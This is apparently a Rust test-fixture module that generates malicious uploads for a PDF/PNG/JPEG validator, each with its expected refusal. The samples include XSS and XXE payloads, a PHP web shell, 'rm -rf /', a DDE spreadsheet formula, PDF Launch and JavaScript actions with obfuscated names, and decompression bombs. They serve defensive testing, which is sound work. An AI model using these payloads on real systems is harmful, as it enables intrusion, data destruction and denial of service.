//! Files that mean no good, each with the refusal it gets.

use std::io::Write as _;

/// One of them.
#[derive(Debug)]
pub struct Sample {
    pub name: String,
    pub content: Vec<u8>,
    pub status: u16,
    /// A part of the refusal's words.
    pub says: &'static str,
}

pub const ENCRYPTED: &str = "remove its password";
pub const SCRIPTED: &str = "holds a script";
pub const LAUNCHING: &str = "starts a program";
pub const CARRYING: &str = "files attached";
pub const FORM: &str = "XFA";
pub const BOMB: &str = "unfolds into far too much";
pub const HIDDEN: &str = "hides parts of itself";
const KIND: &str = "neither PDF, PNG nor JPEG";
const HUGE: &str = "100 million pixels";
const BROKEN: &str = "the picture is damaged";
const LONGER: &str = "behind the end of the picture";

/// A picture of one pixel.
pub const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\
    \0\0\0\nIDATx\x9cc\0\x01\0\0\x05\0\x01\r\n-\xb4\0\0\0\0IEND\xaeB`\x82";
/// The head of a picture of one pixel, and its end.
pub const JPEG: &[u8] =
    b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xc0\0\x0b\x08\0\x01\0\x01\x01\x01\x11\0\
    \xff\xda\0\x08\x01\x01\0\0\x3f\0\x7f\xff\xd9";

/// What packs bytes as PDFs do.
pub fn packed(plain: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(plain).expect("packed");
    encoder.finish().expect("packed")
}

/// A PDF of one object with a stream.
pub fn pdf(dictionary: &str, data: &[u8]) -> Vec<u8> {
    let head = format!("%PDF-1.7\n1 0 obj\n<<{dictionary}/Length {}>>\nstream\n", data.len());
    [head.as_bytes(), data, b"\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"].concat()
}

/// A PDF whose one stream unfolds into so many mebibytes.
pub fn bomb(mebibytes: usize) -> Vec<u8> {
    pdf("/Type/XObject/Filter/FlateDecode", &packed(&vec![0; mebibytes << 20]))
}

fn sample(name: impl Into<String>, content: impl Into<Vec<u8>>, status: u16, says: &'static str) -> Sample {
    Sample { name: name.into(), content: content.into(), status, says }
}

/// All of them.
pub fn all() -> Vec<Sample> {
    let mut samples: Vec<Sample> =
        other_kinds().into_iter().map(|(name, content)| sample(name, content, 415, KIND)).collect();
    samples.extend(acting());
    samples.extend(hiding());
    samples.extend(pictures());
    samples
}

/// Of kinds that are not taken, whatever they are called.
#[expect(clippy::too_many_lines, reason = "a table, one line per file")]
fn other_kinds() -> Vec<(&'static str, Vec<u8>)> {
    let mut tar = vec![0; 512];
    tar[257..262].copy_from_slice(b"ustar");
    let mut kinds: Vec<(&str, Vec<u8>)> = [
        ("empty.pdf", &b""[..]),
        ("one-byte.pdf", b"%"),
        ("page.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
        ("page-with-mark.png", b"\xef\xbb\xbf<html><body onload=alert(1)>"),
        ("drawing.png", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
        (
            "entity.pdf",
            b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
        ),
        ("script.jpg", b"alert(document.cookie)"),
        ("program.pdf", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0"),
        ("program.png", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"),
        ("program.jpg", b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0"),
        ("class.pdf", b"\xca\xfe\xba\xbe\0\0\0\x34\0\0\0\0\0\0\0\0"),
        ("module.pdf", b"\0asm\x01\0\0\0\0\0\0\0\0\0\0\0"),
        ("shell.pdf", b"#!/bin/sh\nrm -rf /\n"),
        ("page.php.pdf", b"<?php system($_GET['c']); ?>"),
        ("batch.pdf", b"@echo off\r\ndel /q *.*\r\n"),
        ("power.pdf", b"Invoke-Expression (New-Object Net.WebClient)"),
        ("moving.png", b"GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0;"),
        ("bitmap.png", b"BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0"),
        ("web.png", b"RIFF\x24\0\0\0WEBPVP8 \x18\0\0\0"),
        ("little.tiff.jpg", b"II*\0\x08\0\0\0\0\0\0\0\0\0\0\0"),
        ("big.tiff.jpg", b"MM\0*\0\0\0\x08\0\0\0\0\0\0\0\0"),
        ("icon.png", b"\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0\x68\x04"),
        ("phone.jpg", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"),
        ("modern.png", b"\0\0\0\x1cftypavif\0\0\0\0avifmif1"),
        ("layers.png", b"8BPS\0\x01\0\0\0\0\0\0\0\x03\0\0"),
        ("archive.pdf", b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0"),
        ("empty-archive.pdf", b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"),
        ("archive-and-pdf.pdf", b"PK\x03\x04\x14\0\0\0\0\0%PDF-1.7\n%%EOF"),
        ("seven.pdf", b"7z\xbc\xaf\x27\x1c\0\x04\0\0\0\0\0\0\0\0"),
        ("rar.pdf", b"Rar!\x1a\x07\x01\0\0\0\0\0\0\0\0\0"),
        ("gzip.pdf", b"\x1f\x8b\x08\0\0\0\0\0\0\x03\0\0\0\0\0\0"),
        ("bzip.pdf", b"BZh91AY&SY\0\0\0\0\0\0"),
        ("xz.pdf", b"\xfd7zXZ\0\0\x04\xe6\xd6\xb4\x46\0\0\0\0"),
        ("film.pdf", b"\0\0\0\x18ftypmp42\0\0\0\0isommp42"),
        ("sound.pdf", b"ID3\x03\0\0\0\0\0\0\0\0\0\0\0\0"),
        ("ogg.pdf", b"OggS\0\x02\0\0\0\0\0\0\0\0\0\0"),
        ("text.pdf", b"Dear coordinator, here is my transcript."),
        ("table.pdf", b"=cmd|' /C calc'!A0,2,3\n"),
        ("data.pdf", b"{\"__proto__\":{\"admin\":true}}"),
        ("letter.pdf", b"{\\rtf1\\ansi{\\object\\objocx}}"),
        ("office.pdf", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0\0\0\0\0\0\0"),
        ("mail.pdf", b"From: a@b.example\r\nContent-Type: text/html\r\n\r\n<b>"),
        ("database.pdf", b"SQLite format 3\0\x10\0\x01\x01\0\x40\x20\x20"),
        ("postscript.pdf", b"%!PS-Adobe-3.0\n(/etc/passwd)(r)file"),
        ("form-data.pdf", b"%FDF-1.2\n1 0 obj<</FDF<<>>>>endobj\n"),
        ("lower.pdf", b"%pdf-1.7\n1 0 obj<<>>endobj\n%%EOF\n"),
        ("blank-before.pdf", b"\n%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF\n"),
        ("page-and-pdf.pdf", b"<html><script>alert(1)</script>%PDF-1.7\n%%EOF"),
        ("wide.pdf", b"\xff\xfe%\0P\0D\0F\0-\x001\0.\x007\0"),
        ("as-text.png", b"\x89PNG\n\x1a\n\0\0\0\rIHDR\0\0"),
        ("seven-bits.png", b"\x09PNG\r\n\x1a\n\0\0\0\rIHDR"),
        ("start-alone.jpg", b"\xff\xd8"),
        ("no-marker.jpg", b"\xff\xd8\0\0JFIF\0\0\0\0\0\0\0\0"),
        ("nothing.png", &[0; 64]),
        ("link.pdf", b"[InternetShortcut]\r\nURL=file:///c:/windows"),
        ("shortcut.pdf", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0"),
    ]
    .map(|(name, content)| (name, content.to_vec()))
    .into();
    kinds.push(("tape.pdf", tar));
    kinds
}

/// PDFs that do something when they are opened: each name plainly, disguised, and in a packed object.
fn acting() -> Vec<Sample> {
    let names = [
        ("JavaScript", "/S/JavaScript/JS(app.alert(1))", SCRIPTED),
        ("Launch", "/S/Launch/F(cmd.exe)", LAUNCHING),
        ("ImportData", "/S/ImportData/F(a.fdf)", LAUNCHING),
        ("SubmitForm", "/S/SubmitForm/F(http://evil.example)", LAUNCHING),
        ("GoToE", "/S/GoToE/T<</R/C>>", LAUNCHING),
        ("EmbeddedFile", "/Type/EmbeddedFile", CARRYING),
        ("EmbeddedFiles", "/Names<</EmbeddedFiles 2 0 R>>", CARRYING),
        ("RichMedia", "/Subtype/RichMedia", CARRYING),
        ("XFA", "/AcroForm<</XFA 2 0 R>>", FORM),
        ("Encrypt", "/Encrypt 2 0 R", ENCRYPTED),
    ];
    let mut samples = Vec::new();
    for (name, dictionary, says) in names {
        let hex = |letter: u8| format!("#{letter:02x}");
        let masked: String = name.bytes().map(hex).collect();
        let half = format!("{}{}", hex(name.as_bytes()[0]), &name[1..]);
        let object = format!("1 0 <<{dictionary}>> ");
        for (how, content) in [
            ("plain", pdf(dictionary, b"")),
            ("masked", pdf(&dictionary.replace(name, &masked), b"")),
            ("half-masked", pdf(&dictionary.replace(name, &half), b"")),
            ("packed", pdf("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", &packed(object.as_bytes()))),
            ("packed-masked", {
                let object = object.replace(name, &masked);
                pdf("/Type/ObjStm/N 1/First 4/Filter[/FlateDecode]", &packed(object.as_bytes()))
            }),
        ] {
            samples.push(sample(format!("{name}-{how}.pdf"), content, 422, says));
        }
    }
    samples
}

/// PDFs that keep their objects from being read, or unfold into too much.
fn hiding() -> Vec<Sample> {
    let script = b"1 0 <</S/JavaScript/JS(app.alert(1))>> ";
    let twice = packed(&packed(script));
    let mut many = b"%PDF-1.7\n".to_vec();
    for number in 1..=30 {
        let part = packed(&vec![0; 10 << 20]);
        many.extend(format!("{number} 0 obj<</Filter/FlateDecode/Length {}>>stream\n", part.len()).bytes());
        many.extend(part);
        many.extend(b"\nendstream endobj\n");
    }
    [
        ("bomb.pdf", bomb(300), BOMB),
        ("bomb-of-many.pdf", many, BOMB),
        (
            "bomb-in-bomb.pdf",
            pdf("/Filter[/FlateDecode/FlateDecode]", &packed(&packed(&vec![0; 64 << 20]))),
            HIDDEN,
        ),
        ("packed-twice.pdf", pdf("/Type/ObjStm/Filter[/FlateDecode/FlateDecode]", &twice), HIDDEN),
        ("short-twice.pdf", pdf("/Type/ObjStm/Filter[/Fl/Fl]", &twice), HIDDEN),
        ("otherwise-packed.pdf", pdf("/Type/ObjStm/Filter/LZWDecode", script), HIDDEN),
        ("in-digits.pdf", pdf("/Type/ObjStm/Filter/ASCIIHexDecode", b"2f4a61"), HIDDEN),
        ("in-letters.pdf", pdf("/Type/ObjStm/Filter/ASCII85Decode", b"<~/~>"), HIDDEN),
        ("in-runs.pdf", pdf("/Type/ObjStm/Filter/RunLengthDecode", b"\x80"), HIDDEN),
        ("sealed.pdf", pdf("/Type/ObjStm/Filter/Crypt", b"x"), HIDDEN),
        ("masked-filter.pdf", pdf("/Type/Obj#53tm/Filter/#4cZWDecode", script), HIDDEN),
        ("unreadable.pdf", pdf("/Type/ObjStm/Filter/FlateDecode", b"not packed at all"), HIDDEN),
        (
            "pdf-in-stream.pdf",
            {
                let inner = pdf("/Type/ObjStm/Filter/FlateDecode", &packed(script));
                pdf("/Filter/FlateDecode", &packed(&inner))
            },
            HIDDEN,
        ),
    ]
    .map(|(name, content, says)| sample(name, content, 422, says))
    .into()
}

fn png(width: u32, height: u32) -> Vec<u8> {
    let mut picture = PNG.to_vec();
    picture[16..20].copy_from_slice(&width.to_be_bytes());
    picture[20..24].copy_from_slice(&height.to_be_bytes());
    picture
}

fn jpeg(width: u16, height: u16) -> Vec<u8> {
    let mut picture = JPEG.to_vec();
    let frame = picture.windows(2).position(|two| two == [0xff, 0xc0]).expect("a frame");
    picture[frame + 5..frame + 7].copy_from_slice(&height.to_be_bytes());
    picture[frame + 7..frame + 9].copy_from_slice(&width.to_be_bytes());
    picture
}

/// Pictures that unfold into too much, or are none.
fn pictures() -> Vec<Sample> {
    let script = b"<script>alert(1)</script>";
    [
        ("wide.png", png(0x7fff_ffff, 1_000), HUGE),
        ("square.png", png(65_535, 65_535), HUGE),
        ("just-too-large.png", png(10_001, 10_000), HUGE),
        ("no-width.png", png(0, 10), BROKEN),
        ("no-height.png", png(10, 0), BROKEN),
        ("cut-in-head.png", PNG[..20].to_vec(), BROKEN),
        ("cut-in-data.png", PNG[..45].to_vec(), BROKEN),
        ("cut-before-end.png", PNG[..PNG.len() - 12].to_vec(), BROKEN),
        ("cut-in-end.png", PNG[..PNG.len() - 1].to_vec(), BROKEN),
        ("other-first.png", [&PNG[..12], b"IDAT", &PNG[16..]].concat(), BROKEN),
        ("long-head.png", [&PNG[..11], b"\x0e", &PNG[12..]].concat(), BROKEN),
        ("endless-part.png", [&PNG[..33], b"\xff\xff\xff\xffIDAT", &PNG[41..]].concat(), BROKEN),
        ("page-behind.png", [PNG, script].concat(), LONGER),
        ("archive-behind.png", [PNG, b"PK\x03\x04"].concat(), LONGER),
        ("square.jpg", jpeg(65_535, 65_535), HUGE),
        ("just-too-large.jpg", jpeg(10_001, 10_000), HUGE),
        ("no-width.jpg", jpeg(0, 10), BROKEN),
        ("no-height.jpg", jpeg(10, 0), BROKEN),
        ("no-frame.jpg", b"\xff\xd8\xff\xda\0\x08\x01\x01\0\0\x3f\0\x7f\xff\xd9".to_vec(), BROKEN),
        ("ends-at-once.jpg", b"\xff\xd8\xff\xd9<?php system('id'); ?>".to_vec(), BROKEN),
        ("cut-in-head.jpg", JPEG[..18].to_vec(), BROKEN),
        ("cut-in-frame.jpg", JPEG[..26].to_vec(), BROKEN),
        ("short-part.jpg", b"\xff\xd8\xff\xe0\0\x01JFIF\0\x01\x01\0\0\x01".to_vec(), BROKEN),
        ("page-in-head.jpg", [b"\xff\xd8\xff\xe1\0\x02", &script[..]].concat(), BROKEN),
    ]
    .map(|(name, content, says)| sample(name, content, 422, says))
    .into()
}
